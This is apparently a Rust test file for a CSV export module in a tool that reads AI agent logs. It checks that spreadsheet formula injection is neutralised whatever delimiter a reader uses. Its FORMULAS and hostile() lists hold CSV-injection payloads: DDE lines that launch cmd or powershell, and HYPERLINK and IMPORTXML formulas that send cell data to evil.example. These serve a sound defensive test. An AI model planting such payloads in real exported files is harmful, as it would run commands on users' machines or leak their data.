//! Cells of CSV files: whatever a log calls things, a spreadsheet takes texts as texts, however it cuts the file into cells,
//! and every reader gets the text back.

use std::sync::Arc;

use aifinops::export::csv::Csv;
use aifinops::export::table::{Column, Kind, Sheet as _, Value};
use aifinops::model::text::clean;
use serde_json::json;

use super::super::Machine;
use super::export;

/// What a formula begins with: the signs, and their full-width forms.
const SIGNS: [char; 8] = ['=', '+', '-', '@', '＝', '＋', '－', '＠'];

/// What may stand before a sign without keeping it from being one, or ends the cell before it.
const BEFORE: [&str; 15] =
    ["", " ", "   ", "\t", "\r", "\n", "\r\n", "\"", "\"\"", "\u{feff}", "\u{200b}", "\u{a0}", "a;", "a; ", "a;\";\t\""];

/// What does harm in one program or another.
const FORMULAS: [&str; 20] = [
    "=1+1",
    "=cmd|' /C calc'!A0",
    "=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")",
    "=IMPORTXML(CONCAT(\"http://evil.example/\",A1),\"//a\")",
    "+cmd|'/C powershell'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+9)*cmd|' /C calc'!A0",
    "=DDE(\"cmd\";\"/C calc\";\"x\")",
    "\"=1+1\"",
    "x;=1;+2;-3;@4",
    "x;\"=1\";\"+2\"",
    "x\";=1+1;\"",
    "x\r\n=1+1",
    "x\n\n@1",
    "x\t=1+1",
    "x,=1+1",
    "x\",=1+1,\"",
    "x\"\r\n=1+1,\"",
    "\u{1b}]0;t\u{7}=1",
    "\u{202e}=1\u{202c}",
];

/// What is none, and stays as it is.
const HARMLESS: [&str; 18] = [
    "",
    "claude-opus-4-6",
    "feat/a=b",
    "a@b.example",
    "1-2",
    "a;b;c",
    "a, b",
    "a,=b",
    "\"quoted\"",
    "say \"hi\", then go",
    "'",
    "''=1",
    "c++",
    "C:\\code\\x",
    "データ,基盤",
    "👨\u{200d}👩\u{200d}👧",
    "#N/A",
    "0x1p-3",
];

fn hostile() -> Vec<String> {
    let signs = SIGNS.iter().flat_map(|sign| BEFORE.map(|before| format!("{before}{sign}1+cmd|' /C calc'!A0")));
    signs.chain(FORMULAS.map(str::to_owned)).collect()
}

const COLUMNS: &[Column] = &[
    Column { key: "first", title: "First", kind: Kind::Text },
    Column { key: "list", title: "List", kind: Kind::List },
    Column { key: "last", title: "Last", kind: Kind::Text },
];

/// A sheet with each text at the beginning, in the middle and at the end of a row.
fn sheet(texts: &[String]) -> String {
    let mut out = Vec::new();
    let mut sheet = Csv::begin(&mut out, COLUMNS).unwrap();
    for text in texts {
        let list: [Arc<str>; 2] = [Arc::from("x"), Arc::from(text.as_str())];
        sheet.row(&[Value::Text(text), Value::List(&list), Value::Text(text)]).unwrap();
    }
    sheet.end().unwrap();
    drop(sheet);
    String::from_utf8(out).unwrap()
}

/// The cells of every line, as a program cuts them.
fn cut(text: &str, delimiter: u8, quoting: bool) -> Vec<Vec<String>> {
    let mut reader = csv::ReaderBuilder::new();
    reader.has_headers(false).flexible(true).delimiter(delimiter).quoting(quoting);
    let mut reader = reader.from_reader(text.as_bytes());
    reader.records().map(|record| record.unwrap().iter().map(str::to_owned).collect()).collect()
}

/// Whether a spreadsheet would take a cell as a formula, after everything that one or another passes over.
fn runs(cell: &str) -> bool {
    let skipped = |c: char| c.is_whitespace() || c.is_control() || matches!(c, '"' | '\u{feff}' | '\u{200b}'..='\u{200f}');
    cell.trim_start_matches(skipped).starts_with(SIGNS) && cell.parse::<f64>().is_err()
}

/// However the file is cut into cells: at commas, at semicolons where commas are decimal points, or at tabs.
fn is_safe(text: &str) {
    for (delimiter, quoting) in [(b',', true), (b';', true), (b'\t', true), (b';', false), (b'\t', false)] {
        let cells = cut(text, delimiter, quoting);
        let bad = cells.iter().flatten().find(|cell| runs(cell));
        assert_eq!(bad, None, "cut at {:?}", char::from(delimiter));
    }
}

#[test]
fn no_text_is_run_as_a_formula_wherever_it_stands() {
    let texts = hostile();
    assert!(texts.len() >= 100, "{}", texts.len());
    for text in &texts {
        is_safe(&sheet(std::slice::from_ref(text)));
    }
    is_safe(&sheet(&texts));
}

#[test]
fn every_reader_gets_the_text_back() {
    let all: Vec<String> = hostile().into_iter().chain(HARMLESS.map(str::to_owned)).collect();
    let text = sheet(&all);
    let rows = cut(&text, b',', true);
    assert_eq!(rows[0], ["first", "list", "last"]);
    assert_eq!(rows.len() - 1, all.len(), "a row each, whatever is in it");
    assert_eq!(text.lines().count(), rows.len(), "and a line each: no cell has lines");
    for (cells, text) in rows[1..].iter().zip(&all) {
        // Signs that do harm have got a ' before them, and what drives terminals is replaced; nothing else is changed.
        let unmarked = |cell: &str| SIGNS.iter().fold(cell.to_owned(), |cell, sign| cell.replace(&format!("'{sign}"), &sign.to_string()));
        let [begin, middle, end] = &cells[..] else { panic!("{cells:?}") };
        assert_eq!((unmarked(begin), begin), (unmarked(&clean(text)), end), "{text:?}");
        assert_eq!(unmarked(middle), unmarked(&format!("x; {}", clean(text))), "{text:?}");
    }
    for (cells, text) in rows[1 + hostile().len()..].iter().zip(HARMLESS) {
        assert_eq!(cells[0], text, "what is no formula is left alone");
    }
}

#[test]
fn what_an_agent_writes_is_a_text_in_every_sheet() {
    let machine = Machine::new();
    let texts = hostile();
    for (n, text) in texts.iter().enumerate() {
        let id = format!("cccc4444-0000-4000-8000-{n:012}");
        let quoted = json!(text).to_string();
        let model = &quoted[1..quoted.len() - 1];
        let cwd = format!("/code/{model}");
        let log = [
            super::super::prompt(&id, &format!("p-{n}"), "2026-11-02T08:00:00.000Z", &cwd),
            super::super::answer(&id, &format!("m-{n}"), "2026-11-02T08:00:05.000Z", &cwd, model, r#"{"type":"text","text":"hi"}"#),
        ];
        machine.write(&format!("home/.claude/projects/-c{n}/{id}.jsonl"), &log.join("\n").replace("\"main\"", &quoted));
    }
    for what in ["sessions", "tasks", "calls", "days"] {
        let sheet = export(&machine, &[what, "--format", "csv"]);
        is_safe(&sheet);
        let rows = super::csv(&sheet);
        assert!(rows.len() > texts.len() / 2, "{what}: {} rows", rows.len());
        assert!(rows.iter().any(|row| row.values().any(|cell| cell.contains("'@SUM"))), "{what}: they are in it");
    }
    is_safe(&export(&machine, &["focus"]));
}
